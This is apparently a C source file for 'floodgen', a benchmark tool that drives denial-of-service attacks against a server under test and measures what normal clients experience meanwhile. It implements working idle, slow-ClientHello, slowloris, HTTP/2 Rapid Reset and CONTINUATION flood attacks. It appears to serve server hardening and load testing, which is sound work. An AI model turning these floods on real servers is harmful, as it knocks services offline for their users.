/* floodgen: attack generator for bench/flood. One thread drives N attacking connections in one of
 * the modes below (TLS handshakes non-blocking, HS_INFLIGHT at a time) and opens a closed one
 * again (the attacker keeps up the pressure); the
 * clients mode (flood_clients.c) measures what established clients see meanwhile. Prints a
 * status line every second (held connections, for memory per connection) and a summary line
 * (how long the server let a connection live, how much it let each one send). */
#include <poll.h>
#include <signal.h>
#include <sys/epoll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <openssl/err.h>

#include "floodgen.h"
#include "hsload.h"

enum mode { M_IDLE, M_SLOWHELLO, M_SLOWLORIS, M_RAPIDRESET, M_CONTINUATION, M_CLIENTS };
static const char *const mode_names[] = {"idle",       "slowhello",    "slowloris",
                                         "rapidreset", "continuation", "clients"};

struct att {
    int fd; /* -1: closed */
    SSL *ssl;
    double opened;
    double next_send;
    size_t off;      /* slowhello: bytes of the ClientHello sent; slowloris: header lines */
    long sent;       /* rapidreset: resets; continuation: header block bytes of this block */
    uint32_t stream; /* h2: the last stream id used */
    int in_block;    /* continuation: a HEADERS without END_HEADERS is open */
    int hs;          /* 1: TLS handshake under way (non-blocking), waiting for want */
    short want;
    unsigned char *rx; /* TLS modes: RX_SIZE bytes; h2: frames read so far */
    size_t rx_len;
};

struct run {
    struct flood_opts o;
    enum mode mode;
    SSL_CTX *ctx;
    unsigned char hello[4096]; /* slowhello: a real ClientHello's bytes */
    size_t hello_len;
    struct att *a;
    int epfd; /* every open slot's fd, data.u32 its index: a turn costs what is ready, not N */
    long held, opened, open_failed, closed, goaway, resp; /* resp: responses or RSTs seen */
    long pending;                                         /* TLS handshakes under way */
    double life_sum, life_max;
    long units, units_max; /* resets or block bytes sent: in all, most on one connection */
};

/* TLS handshakes in flight at a time, and how long one may take: enough to reach hundreds of
 * held connections within the ramp on a loaded machine, without a burst that is a storm. */
enum { HS_INFLIGHT = 64, RX_SIZE = 32768 };
#define HS_TIMEOUT_S 10.0

static volatile sig_atomic_t stop_flag;

static void on_signal(int sig)
{
    (void)sig;
    stop_flag = 1;
}

static const unsigned char alpn_h2[] = "\x02h2";
static const unsigned char alpn_h1[] = "\x08http/1.1";
/* :method GET, :scheme https, :path /, :authority localhost (literal, not indexed) */
static const unsigned char req_block[] = "\x82\x87\x84\x01\x09localhost";

static size_t frame(unsigned char *p, size_t len, int type, int flags, uint32_t sid)
{
    p[0] = (unsigned char)(len >> 16);
    p[1] = (unsigned char)(len >> 8);
    p[2] = (unsigned char)len;
    p[3] = (unsigned char)type;
    p[4] = (unsigned char)flags;
    p[5] = (unsigned char)(sid >> 24);
    p[6] = (unsigned char)(sid >> 16);
    p[7] = (unsigned char)(sid >> 8);
    p[8] = (unsigned char)sid;
    return 9 + len;
}

/* A ClientHello as OpenSSL writes it (memory BIOs, never sent). */
static int make_hello(struct run *r)
{
    SSL *ssl = SSL_new(r->ctx);
    BIO *rb = BIO_new(BIO_s_mem()), *wb = BIO_new(BIO_s_mem());
    SSL_set_bio(ssl, rb, wb);
    SSL_set_tlsext_host_name(ssl, (char *)(r->o.sni ? r->o.sni : "localhost"));
    SSL_connect(ssl);
    ERR_clear_error();
    int n = BIO_read(wb, r->hello, sizeof(r->hello));
    SSL_free(ssl);
    r->hello_len = n > 0 ? (size_t)n : 0;
    return n > 0 ? 0 : -1;
}

static void att_close(struct run *r, struct att *a, int by_server)
{
    double life = flood_now() - a->opened;
    if (a->ssl != NULL) {
        flood_tls_close(a->ssl);
    } else {
        close(a->fd);
    }
    a->ssl = NULL;
    a->fd = -1;
    if (a->hs) {
        a->hs = 0; /* a failed or timed-out handshake: an open that did not happen */
        r->pending--;
        r->open_failed++;
        return;
    }
    r->held--;
    if (by_server) {
        r->closed++;
        r->life_sum += life;
        r->life_max = life > r->life_max ? life : r->life_max;
    }
}

static int h2_start(struct att *a)
{
    unsigned char buf[64];
    size_t n = 24;
    memcpy(buf, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
    n += frame(buf + n, 0, 4, 0, 0); /* SETTINGS, empty */
    return flood_tls_write(a->ssl, buf, n);
}

/* A connection is up (TCP, or TLS with its handshake done): the attack's first bytes. */
static void att_ready(struct run *r, struct att *a)
{
    int rc = 0;

    a->opened = flood_now();
    a->next_send = a->opened;
    r->opened++;
    r->held++;
    if (r->mode == M_SLOWLORIS) {
        static const char line[] = "GET /size/64 HTTP/1.1\r\nHost: localhost\r\n";
        rc = flood_tls_write(a->ssl, line, sizeof(line) - 1);
    } else if (r->mode == M_RAPIDRESET || r->mode == M_CONTINUATION) {
        rc = h2_start(a);
    }
    if (rc != 0) {
        att_close(r, a, 1);
    }
}

/* What epoll waits for on a's fd: the handshake's next want, else the server's bytes or its
 * close (POLLIN and POLLOUT are EPOLLIN and EPOLLOUT). */
static void att_watch(struct run *r, struct att *a, int op)
{
    struct epoll_event ev = {.events = a->hs ? (uint32_t)a->want : EPOLLIN,
                             .data.u32 = (uint32_t)(a - r->a)};
    epoll_ctl(r->epfd, op, a->fd, &ev);
}

/* TCP modes connect at once (blocking, bounded); TLS modes start a non-blocking handshake that
 * turn() drives, so that hundreds of TLS connections are opened concurrently. */
static void att_open(struct run *r, struct att *a)
{
    unsigned char *rx = a->rx;
    *a = (struct att){.fd = -1, .rx = rx};
    if (r->mode == M_IDLE || r->mode == M_SLOWHELLO) {
        a->fd = flood_tcp_connect(&r->o, 2.0);
        if (a->fd == -1) {
            r->open_failed++;
            return;
        }
        att_watch(r, a, EPOLL_CTL_ADD);
        att_ready(r, a);
        return;
    }
    a->ssl = flood_tls_start(&r->o, r->ctx, r->mode == M_SLOWLORIS ? alpn_h1 : alpn_h2,
                             r->mode == M_SLOWLORIS ? sizeof(alpn_h1) - 1 : 3);
    if (a->ssl == NULL) {
        r->open_failed++;
        return;
    }
    a->fd = SSL_get_fd(a->ssl);
    a->hs = 1;
    a->want = POLLOUT; /* the TCP connect completes first */
    a->opened = flood_now();
    r->pending++;
    att_watch(r, a, EPOLL_CTL_ADD);
}

/* One handshake step once the socket is ready (turn() ends one that takes too long). */
static void att_handshake(struct run *r, struct att *a)
{
    short was = a->want;
    int rc = flood_tls_step(a->ssl, &a->want);
    if (rc < 0) {
        att_close(r, a, 0);
    } else if (rc > 0) {
        a->hs = 0;
        r->pending--;
        att_watch(r, a, EPOLL_CTL_MOD);
        att_ready(r, a);
    } else if (a->want != was) {
        att_watch(r, a, EPOLL_CTL_MOD);
    }
}

/* The server's h2 frames: SETTINGS are acknowledged, GOAWAY counted, a HEADERS or RST_STREAM
 * on our stream ends a CONTINUATION block (refused: 431 or a reset). */
static int h2_frames(struct run *r, struct att *a)
{
    size_t off = 0;
    while (a->rx_len - off >= 9) {
        unsigned char *f = a->rx + off;
        size_t len = (size_t)f[0] << 16 | (size_t)f[1] << 8 | f[2];
        if (a->rx_len - off < 9 + len) {
            break;
        }
        if (f[3] == 4 && !(f[4] & 1)) {
            unsigned char ack[9];
            if (flood_tls_write(a->ssl, ack, frame(ack, 0, 4, 1, 0)) != 0) {
                return -1;
            }
        } else if (f[3] == 7) {
            r->goaway++;
        } else if (f[3] == 1 || f[3] == 3) {
            r->resp++;
            a->in_block = 0;
        }
        off += 9 + len;
    }
    memmove(a->rx, a->rx + off, a->rx_len - off);
    a->rx_len -= off;
    return 0;
}

/* Reads what the server sent; -1 when it closed the connection. */
static int att_read(struct run *r, struct att *a)
{
    if (a->ssl == NULL) {
        char b[512];
        ssize_t n = recv(a->fd, b, sizeof(b), MSG_DONTWAIT);
        return n > 0 ? 0 : -1;
    }
    do {
        size_t room = RX_SIZE - a->rx_len;
        int n = SSL_read(a->ssl, a->rx + a->rx_len, room > 0 ? (int)room : 1);
        if (n <= 0) {
            /* non-blocking: a record with no data for us (a TLS 1.3 session ticket) or half a
             * record is no reason to wait, and never one to hang up */
            int err = SSL_get_error(a->ssl, n);
            ERR_clear_error();
            return err == SSL_ERROR_WANT_READ || err == SSL_ERROR_WANT_WRITE ? 0 : -1;
        }
        if (r->mode == M_SLOWLORIS) {
            r->resp += memcmp(a->rx, "HTTP/1.1 ", 9) == 0;
            continue; /* the answer (408) is counted, the bytes dropped */
        }
        a->rx_len += (size_t)n;
        if (h2_frames(r, a) != 0 || a->rx_len == RX_SIZE) {
            return -1;
        }
    } while (SSL_pending(a->ssl) > 0);
    return 0;
}

static void count(struct run *r, struct att *a, long units)
{
    a->sent += units;
    r->units += units;
    r->units_max = a->sent > r->units_max ? a->sent : r->units_max;
}

/* Rapid reset: 50 streams opened and cancelled at once per turn. */
static int step_rapidreset(struct run *r, struct att *a)
{
    unsigned char buf[50 * 48];
    size_t n = 0;
    for (int i = 0; i < 50; i++) {
        a->stream = a->stream ? a->stream + 2 : 1;
        memcpy(buf + n + 9, req_block, sizeof(req_block) - 1);
        n += frame(buf + n, sizeof(req_block) - 1, 1, 0x4 | 0x1, a->stream);
        memcpy(buf + n + 9, "\0\0\0\x08", 4); /* CANCEL */
        n += frame(buf + n, 4, 3, 0, a->stream);
    }
    count(r, a, 50);
    return flood_tls_write(a->ssl, buf, n);
}

/* CONTINUATION flood: a HEADERS without END_HEADERS, then one CONTINUATION frame per turn, each
 * holding one more x-pad field of 1,000 bytes; a block the server ends (431, reset) starts over. */
static int step_continuation(struct run *r, struct att *a)
{
    unsigned char buf[1100];
    size_t n;
    if (!a->in_block) {
        a->stream = a->stream ? a->stream + 2 : 1;
        a->in_block = 1;
        a->sent = 0;
        memcpy(buf + 9, req_block, sizeof(req_block) - 1);
        n = frame(buf, sizeof(req_block) - 1, 1, 0x1, a->stream);
        if (flood_tls_write(a->ssl, buf, n) != 0) {
            return -1;
        }
    }
    unsigned char *p = buf + 9;
    memcpy(p, "\x00\x05x-pad\x7f\xe9\x06", 10); /* value length 1000 (7-bit prefix) */
    memset(p + 10, 'a', 1000);
    n = frame(buf, 1010, 9, 0, a->stream);
    count(r, a, 1010);
    return flood_tls_write(a->ssl, buf, n);
}

static int att_step(struct run *r, struct att *a, double now)
{
    char line[64];
    switch (r->mode) {
    case M_SLOWHELLO:
        if (now < a->next_send || a->off >= r->hello_len) {
            return 0;
        }
        a->next_send = now + r->o.interval;
        return send(a->fd, r->hello + a->off++, 1, MSG_NOSIGNAL) == 1 ? 0 : -1;
    case M_SLOWLORIS:
        if (now < a->next_send) {
            return 0;
        }
        a->next_send = now + r->o.interval;
        int len = snprintf(line, sizeof(line), "X-Slow-%zu: 1\r\n", a->off++);
        return flood_tls_write(a->ssl, line, (size_t)len);
    case M_RAPIDRESET:
        return step_rapidreset(r, a);
    case M_CONTINUATION:
        return step_continuation(r, a);
    default:
        return 0;
    }
}

static void status(const struct run *r, double t, const char *tag)
{
    printf("%s mode=%s t=%.1f held=%ld handshaking=%ld opened=%ld open_failed=%ld "
           "closed_by_server=%ld "
           "life_mean_s=%.2f life_max_s=%.2f units=%ld units_max_per_conn=%ld goaway=%ld "
           "responses=%ld\n",
           tag, mode_names[r->mode], t, r->held, r->pending, r->opened, r->open_failed, r->closed,
           r->closed ? r->life_sum / (double)r->closed : 0.0, r->life_max, r->units, r->units_max,
           r->goaway, r->resp);
    fflush(stdout);
}

/* One turn: (re)open closed slots, read what the server sent or take a handshake's next step,
 * then each established slot's attack step. The kernel sees only the ready fds (epoll): a
 * poll() of 5,000 sockets every turn took most of the CPU the tool shares with the measured
 * clients, in stretches of milliseconds the kernel (PREEMPT_NONE) does not interrupt. */
static void turn(struct run *r, struct epoll_event *evs)
{
    int n = r->o.conns;
    int tls = r->mode != M_IDLE && r->mode != M_SLOWHELLO;
    for (int i = 0; i < n && !stop_flag; i++) {
        if (r->a[i].fd == -1 && (tls ? r->pending < HS_INFLIGHT : 1)) {
            att_open(r, &r->a[i]);
        }
    }
    int ready = epoll_wait(r->epfd, evs, n, 0);
    for (int k = 0; k < ready; k++) {
        struct att *a = &r->a[evs[k].data.u32];
        short ev = (short)evs[k].events;
        if (a->fd != -1 && a->hs) {
            att_handshake(r, a);
        } else if (a->fd != -1 && (ev & (POLLIN | POLLHUP | POLLERR)) && att_read(r, a) != 0) {
            att_close(r, a, 1);
        }
    }
    double now = flood_now();
    for (int i = 0; i < n; i++) {
        struct att *a = &r->a[i];
        if (a->fd != -1 && a->hs && now - a->opened > HS_TIMEOUT_S) {
            att_close(r, a, 0);
        } else if (a->fd != -1 && !a->hs && att_step(r, a, now) != 0) {
            att_close(r, a, 1);
        }
    }
}

static int run_attack(struct run *r)
{
    int tls = r->mode != M_IDLE && r->mode != M_SLOWHELLO;
    struct epoll_event *evs = calloc((size_t)r->o.conns, sizeof(*evs));
    r->a = calloc((size_t)r->o.conns, sizeof(*r->a));
    unsigned char *rx = tls ? calloc((size_t)r->o.conns, RX_SIZE) : NULL;
    r->epfd = epoll_create1(EPOLL_CLOEXEC);
    if (evs == NULL || r->a == NULL || (tls && rx == NULL) || r->epfd == -1) {
        return 1;
    }
    for (int i = 0; i < r->o.conns; i++) {
        r->a[i].fd = -1;
        r->a[i].rx = tls ? rx + (size_t)i * RX_SIZE : NULL;
    }
    int busy = r->mode == M_RAPIDRESET || r->mode == M_CONTINUATION;
    double start = flood_now(), next_status = start + 1.0;
    while (!stop_flag && flood_now() - start < r->o.duration) {
        turn(r, evs);
        double now = flood_now();
        if (now >= next_status) {
            status(r, now - start, "status");
            next_status += 1.0;
        }
        /* the busy modes (and handshakes under way) still pause: the tool shares its CPU with
         * the measured clients */
        usleep(busy || r->pending > 0 ? 1000 : 20000);
    }
    status(r, flood_now() - start, "summary");
    for (int i = 0; i < r->o.conns; i++) {
        if (r->a[i].fd != -1) {
            att_close(r, &r->a[i], 0);
        }
    }
    free(evs);
    free(rx);
    close(r->epfd);
    return 0;
}

static void usage(FILE *f)
{
    fprintf(f, "usage: floodgen --mode MODE --connect HOST:PORT [--conns N] [--duration S]\n"
               "             [--sni NAME] [--cert CHAIN.pem --key KEY] [--interval S]\n"
               "             [--rate R] [--path P] [--quiet S --ramp S] [--samples FILE]\n"
               "modes: idle (TCP, never a ClientHello), slowhello (the ClientHello one byte per\n"
               "  --interval, default 1 s), slowloris (HTTP/1.1 head one header line per\n"
               "  --interval), rapidreset (h2 HEADERS + RST_STREAM in a loop), continuation (h2\n"
               "  HEADERS without END_HEADERS, then CONTINUATION frames), clients (--conns\n"
               "  keep-alive HTTP/1.1 connections, --rate GETs of --path per second in all;\n"
               "  prints requests, errors and latency percentiles from the scheduled send time;\n"
               "  with --quiet Q --ramp R two lines: the first Q seconds, and from Q + R on;\n"
               "  --samples FILE: every request as 'seconds-from-start latency-ms', or 'error').\n"
               "Attacks reopen every connection the server closes; status lines every second.\n");
}

static int parse(struct flood_opts *o, int argc, char **argv)
{
    *o = (struct flood_opts){
        .path = "/size/64", .conns = 100, .duration = 10, .rate = 200, .interval = 1.0};
    for (int i = 1; i + 1 < argc; i += 2) {
        const char *a = argv[i], *v = argv[i + 1];
        if (strcmp(a, "--mode") == 0) {
            o->mode = v;
        } else if (strcmp(a, "--connect") == 0) {
            o->connect = v;
        } else if (strcmp(a, "--sni") == 0) {
            o->sni = v;
        } else if (strcmp(a, "--cert") == 0) {
            o->cert = v;
        } else if (strcmp(a, "--key") == 0) {
            o->key = v;
        } else if (strcmp(a, "--path") == 0) {
            o->path = v;
        } else if (strcmp(a, "--conns") == 0) {
            o->conns = atoi(v);
        } else if (strcmp(a, "--duration") == 0) {
            o->duration = atof(v);
        } else if (strcmp(a, "--rate") == 0) {
            o->rate = atof(v);
        } else if (strcmp(a, "--interval") == 0) {
            o->interval = atof(v);
        } else if (strcmp(a, "--quiet") == 0) {
            o->quiet = atof(v);
        } else if (strcmp(a, "--ramp") == 0) {
            o->ramp = atof(v);
        } else if (strcmp(a, "--samples") == 0) {
            o->samples = v;
        } else {
            return -1;
        }
    }
    if (argc % 2 == 0 || o->mode == NULL || o->connect == NULL || o->conns <= 0 ||
        hsload_resolve(o->connect, &o->addr, &o->addr_len) != 0) {
        return -1;
    }
    return 0;
}

int main(int argc, char **argv)
{
    struct run r = {0};
    if (parse(&r.o, argc, argv) != 0) {
        usage(stderr);
        return 2;
    }
    r.mode = M_IDLE;
    while (r.mode < M_CLIENTS && strcmp(mode_names[r.mode], r.o.mode) != 0) {
        r.mode++;
    }
    if (strcmp(mode_names[r.mode], r.o.mode) != 0) {
        usage(stderr);
        return 2;
    }
    signal(SIGPIPE, SIG_IGN);
    signal(SIGTERM, on_signal);
    signal(SIGINT, on_signal);
    hsload_raise_nofile(r.o.conns + 64L);
    struct opts ho = {.cert = r.o.cert, .key = r.o.key};
    r.ctx = hsload_make_ctx(&ho);
    if (r.ctx == NULL || (r.mode == M_SLOWHELLO && make_hello(&r) != 0)) {
        fprintf(stderr, "floodgen: TLS set-up failed\n");
        return 1;
    }
    int rc = r.mode == M_CLIENTS ? flood_run_clients(&r.o, r.ctx) : run_attack(&r);
    SSL_CTX_free(r.ctx);
    return rc;
}
